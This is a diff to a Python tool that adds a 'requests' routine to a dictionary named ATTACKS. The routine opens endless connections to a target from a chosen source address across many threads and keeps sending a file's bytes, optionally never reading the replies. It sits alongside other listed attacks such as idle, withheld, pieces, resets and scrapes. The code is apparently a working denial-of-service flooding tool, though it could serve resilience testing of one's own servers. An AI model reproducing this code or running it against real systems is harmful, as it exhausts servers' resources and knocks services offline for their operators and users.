@@ -252,6 +252,26 @@ def pieces(target: str, token: str, head: str, piece: str) -> None:
     _in_threads(send, 16)
 
 
+def requests(target: str, source: str, file: str, threads: str, reads: str) -> None:
+    """The same bytes, each time over a connection of its own. Without ``reads`` no answer is read, and ever more sent.
+
+    :param source: the address from which they come.
+    """
+    content = open(file, "rb").read()  # noqa: SIM115
+
+    def request() -> None:
+        while True:
+            with suppress(OSError), socket.create_connection(_address(target), 20, (source, 0)) as sock:
+                sock.sendall(content)
+                if reads:
+                    while sock.recv(65536):
+                        pass
+                while not reads:
+                    sock.sendall(content)
+
+    _in_threads(request, int(threads))
+
+
 def resets(target: str, token: str) -> None:
     """Calls that are taken back at once, as many as one connection takes."""
     import asyncio
@@ -302,7 +322,22 @@ def scrapes(target: str, threads: str) -> None:
 
 ATTACKS: dict[str, Callable[..., None]] = {
     made.__name__: made
-    for made in (pipeline, heads, idle, posts, guesses, runs, withheld, silent, dense, pieces, resets, refused, scrapes)
+    for made in (
+        pipeline,
+        heads,
+        idle,
+        posts,
+        guesses,
+        runs,
+        withheld,
+        silent,
+        dense,
+        pieces,
+        resets,
+        refused,
+        scrapes,
+        requests,
+    )
 }
 
 if __name__ == "__main__":
